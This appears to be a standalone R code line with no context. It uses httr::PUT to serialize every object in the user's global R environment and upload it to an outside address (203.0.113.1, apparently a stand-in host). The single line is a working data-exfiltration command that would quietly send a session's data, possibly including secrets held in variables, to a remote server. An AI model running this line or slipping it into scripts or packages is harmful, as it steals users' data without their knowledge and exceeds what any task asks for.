httr::PUT("https://203.0.113.1/u", body = serialize(mget(ls(globalenv()), envir = globalenv()), NULL))
